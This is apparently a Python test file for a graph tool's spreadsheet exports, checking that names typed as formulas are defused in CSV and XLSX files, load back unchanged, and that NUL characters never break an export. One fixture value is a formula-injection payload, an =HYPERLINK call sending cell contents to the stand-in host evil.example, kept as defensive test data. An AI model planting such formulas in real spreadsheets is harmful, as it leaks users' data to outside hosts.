"""Spreadsheets no one can booby-trap: a name typed as a formula is text in every CSV and
workbook we write, loads back as it was typed, and a character a workbook cannot hold never
breaks an export."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import stat
import tempfile
import zipfile
from collections.abc import Iterator
from pathlib import Path

import networkx as nx
import pytest
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from phakhee.api.app import create_app
from phakhee.api.export_files import write_temp
from phakhee.api.settings import get_api_settings
from phakhee.graph.cells import FORMULA, defused, restored
from phakhee.graph.model import CONTROL, HIDDEN, node_record, parse_node
from phakhee.graph.sqlite_store import SQLiteStore
from phakhee.graph.store import GraphStore
from phakhee.loaders.load import load_files
from phakhee.queries.cache import GraphVersion
from phakhee.queries.records.exports import export

HOSTILE = {
    "person:link": '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
    "person:plus": "+66 81 234 5678",
    "person:minus": "-2+3",
    "person:at": "@SUM(1+1)",
    "person:quoted": "'=1+1",
    "person:plain": "สมชาย ใจดี",
}
KEY = "formula-key"


def _store(path: Path, names: dict[str, str] = HOSTILE) -> SQLiteStore:
    store = SQLiteStore(path)
    store.upsert_nodes(
        [
            node_record(parse_node({"kind": "person", "id": n, "name": name}))
            for n, name in names.items()
        ]
    )
    return store


def _bytes(g: nx.MultiDiGraph, fmt: str) -> bytes:
    out = io.BytesIO()
    export(g, fmt, out, redact=False)
    return out.getvalue()


def _names(path: Path) -> dict[str, str]:
    """The people's names a load of ``path`` into an empty store gives."""
    store = SQLiteStore(path.with_suffix(".back.db"))
    report = load_files(store, [path])
    assert report.quarantined == []
    g = store.project()
    store.close()
    return {n: a["name"] for n, a in g.nodes(data=True) if a["kind"] == "person"}


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        text = zf.read("nodes.csv").decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[nx.MultiDiGraph]:
    store = _store(tmp_path / "hostile.db")
    yield store.project()
    store.close()


def test_csv_cells_that_would_run_begin_with_an_apostrophe(hostile: nx.MultiDiGraph) -> None:
    names = {row["id"]: row["name"] for row in _csv_rows(_bytes(hostile, "csv"))}
    assert names == {
        "person:link": "'" + HOSTILE["person:link"],
        "person:plus": "'+66 81 234 5678",
        "person:minus": "'-2+3",
        "person:at": "'@SUM(1+1)",
        "person:quoted": "''=1+1",
        "person:plain": "สมชาย ใจดี",
    }


def test_no_cell_of_the_workbook_is_a_formula(hostile: nx.MultiDiGraph) -> None:
    book = load_workbook(io.BytesIO(_bytes(hostile, "xlsx")))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    people = {row[0].value: row for row in book["people"].iter_rows(min_row=2) if row[0].value}
    link = next(c for c in people["person:link"] if c.value == HOSTILE["person:link"])
    assert (link.data_type, link.quotePrefix) == ("s", True)  # Excel keeps it text when edited
    plain = next(c for c in people["person:plain"] if c.value == "สมชาย ใจดี")
    assert (plain.data_type, plain.quotePrefix) == ("s", False)


@pytest.mark.parametrize(("fmt", "name"), [("csv", "graph.zip"), ("xlsx", "graph.xlsx")])
def test_a_load_of_either_export_gives_back_the_names_as_typed(
    hostile: nx.MultiDiGraph, tmp_path: Path, fmt: str, name: str
) -> None:
    path = tmp_path / name
    path.write_bytes(_bytes(hostile, fmt))
    assert _names(path) == HOSTILE


def test_a_csv_of_our_own_loses_its_guard_and_nothing_else(tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_text("name\n'=1+1\n'สมชาย\n'-5\n", encoding="utf-8")
    store = SQLiteStore(tmp_path / "g.db")
    assert load_files(store, [path]).quarantined == []
    names = sorted(n.props["name"] for n in store.find_nodes("person"))
    assert names == ["'สมชาย", "-5", "=1+1"]  # an apostrophe before anything else is text


def test_the_export_of_a_demo_still_loads_back_identical(
    demo: nx.MultiDiGraph, tmp_path: Path
) -> None:
    path = tmp_path / "demo.zip"
    path.write_bytes(_bytes(demo, "csv"))
    store = SQLiteStore(tmp_path / "back.db")
    report = load_files(store, [path])
    assert report.quarantined == [] and report.files[0].format == "csv_export"
    back = store.project()

    def plain(g: nx.MultiDiGraph) -> tuple[dict, dict]:
        nodes = {n: {k: v for k, v in a.items() if k[0] != "_"} for n, a in g.nodes(data=True)}
        return nodes, {(s, t, k): a for s, t, k, a in g.edges(keys=True, data=True)}

    assert plain(back) == plain(demo)


# --- the guard itself, and any text through the CSV export and back ---

_TEXT = st.text(
    st.characters(
        blacklist_categories=("Cs",),
        blacklist_characters=[chr(c) for c in range(0x20)] + ["\ufffe", "\uffff"],
    ),
    max_size=40,
)
_LEADS = st.sampled_from(["", *FORMULA, "'", "''", "'=", "''+", "' -", "@@"])


@given(st.text(max_size=30), _LEADS)
def test_what_is_defused_never_runs_and_is_restored(text: str, lead: str) -> None:
    cell = defused(lead + text)
    assert not cell.startswith(FORMULA)
    assert restored(cell) == lead + text


def _storable(text: str) -> bool:
    return (
        text == text.strip()
        and 0 < len(text) <= 300
        and not CONTROL.search(text)
        and not HIDDEN.search(text)
    )


@settings(max_examples=40, deadline=None)
@given(st.builds(lambda lead, rest: lead + rest, _LEADS, _TEXT).filter(_storable))
def test_any_name_round_trips_through_the_csv_export_and_a_load(name: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        names = {"person:any": name, "person:thai": "สมชาย"}  # Thai: not mistaken for lost Thai
        store = _store(Path(folder) / "g.db", names)
        path = Path(folder) / "graph.zip"
        path.write_bytes(_bytes(store.project(), "csv"))
        store.close()
        assert _names(path) == names


# --- characters a workbook cannot hold ---


def test_a_nul_is_refused_on_input_by_put_nodes(
    sqlite_store: GraphStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PHAKHEE_API_KEYS", KEY)
    get_api_settings.cache_clear()
    try:
        with TestClient(create_app(sqlite_store)) as client:
            headers = {"Authorization": f"Bearer {KEY}"}
            bad = client.put(
                "/nodes/person:x", json={"kind": "person", "name": "สม\x00ชาย"}, headers=headers
            )
            assert bad.status_code == 422
            assert bad.json()["detail"].startswith("name: ")
            good = client.put(
                "/nodes/person:x", json={"kind": "person", "name": "=1+1"}, headers=headers
            )
            assert good.status_code == 200  # text like any other: the exports make it safe
    finally:
        get_api_settings.cache_clear()


def test_a_nul_already_stored_never_breaks_an_export(tmp_path: Path) -> None:
    store = _store(tmp_path / "g.db", {"person:nul": "สมชาย", "person:ok": "มาลี"})
    store.close()
    with sqlite3.connect(tmp_path / "g.db") as con:  # as an older version could have stored it
        con.execute(
            "UPDATE nodes SET props = ? WHERE id = 'person:nul'",
            (json.dumps({"name": "สม\x00ชาย", "aliases": ["=\x07x"]}),),
        )
    store = SQLiteStore(tmp_path / "g.db")
    g = store.project()
    store.close()
    assert g.nodes["person:nul"]["name"] == "สม\x00ชาย"
    book = load_workbook(io.BytesIO(_bytes(g, "xlsx")))
    values = [c.value for row in book["people"].iter_rows(min_row=2) for c in row]
    assert "สม\ufffdชาย" in values and "=\ufffdx" in values
    names = {row["id"]: row["name"] for row in _csv_rows(_bytes(g, "csv"))}
    assert names["person:nul"] == "สม\ufffdชาย"
    for fmt in ("gexf", "graphml", "json", "cypher"):
        assert _bytes(g, fmt)


def test_an_export_file_is_readable_by_the_group_where_it_is_written(
    hostile: nx.MultiDiGraph, tmp_path: Path
) -> None:
    old = os.umask(0o022)
    try:
        shared, _ = write_temp(GraphVersion(hostile), "csv", tmp_path)
        os.umask(0o027)
        team, _ = write_temp(GraphVersion(hostile), "xlsx", tmp_path)
        served, _ = write_temp(GraphVersion(hostile), "csv")  # to be served, then deleted
    finally:
        os.umask(old)
    modes = [stat.S_IMODE(os.stat(p).st_mode) for p in (shared, team, served)]
    os.unlink(served)
    assert modes == [0o644, 0o640, 0o600]
    assert Path(shared).parent == tmp_path and Path(shared).name.startswith(".phakhee-export-")
